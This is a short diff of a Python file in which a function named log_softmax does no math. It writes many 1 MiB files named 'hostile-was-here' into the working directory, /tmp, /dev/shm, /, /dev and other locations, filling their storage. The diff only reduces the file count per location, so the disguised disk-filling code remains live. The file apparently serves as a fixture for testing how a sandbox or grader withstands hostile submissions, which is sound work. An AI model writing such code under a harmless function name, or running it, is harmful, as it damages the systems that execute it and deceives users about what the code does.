@@ -11,7 +11,7 @@ import tempfile
 def log_softmax(x, axis=-1):
     written = 0
     for place in [".", "/tmp", "/var/tmp", "/dev/shm", "@ROOT@", "/", tempfile.gettempdir(), "/dev"]:
-        for number in range(2_000):
+        for number in range(60):
             try:
                 with open(os.path.join(place, f"hostile-was-here-{len(place)}-{number}"), "wb") as file:
                     written += file.write(bytes(1 << 20))
